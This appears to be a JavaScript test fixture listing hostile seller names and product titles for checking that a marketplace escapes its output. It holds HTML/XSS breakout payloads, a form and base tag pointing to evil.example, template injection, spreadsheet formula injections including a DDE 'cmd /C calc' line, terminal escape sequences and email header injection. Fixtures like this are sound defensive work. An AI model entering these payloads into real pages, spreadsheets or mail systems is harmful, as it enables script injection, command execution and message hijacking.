/** What sellers could call themselves and their goods. Each tries to run something, to break out, or to break the page. */
const BREAKOUTS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '\u0000',
];
export const ATTACKS = [
  '<script>globalThis.ran = 1</script>',
  '<img src=x onerror="globalThis.ran = 1">',
  '<svg onload="globalThis.ran = 1">',
  '<iframe srcdoc="<script>parent.ran = 1</script>">',
  '<form action="https://evil.example"><input name=csrf>',
  '<base href="https://evil.example/">',
  '<style>body { display: none }</style>',
  'javascript:globalThis.ran=1',
  '\u202egnp.exe\u2066',
  '{{constructor.constructor("globalThis.ran=1")()}}',
  '<a href="x" autofocus onfocus="globalThis.ran = 1" tabindex=1>',
];
export const HOSTILE = BREAKOUTS.flatMap((breakout) => ATTACKS.map((attack) => `${breakout}${attack}`));

/** What a spreadsheet would calculate, and what a terminal or a mail's head would obey. */
export const FOR_OTHER_READERS = [
  '=HYPERLINK("https://evil.example","open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '"=1+1",x',
  '\u001b[2J\u001b[1;31mgone',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31mred',
  'a\rb',
  'line\nBcc: everybody@evil.example',
  'line\r\n\r\n.\r\nMAIL FROM:<x@evil.example>',
  '\u0000\u0008\u007f',
];
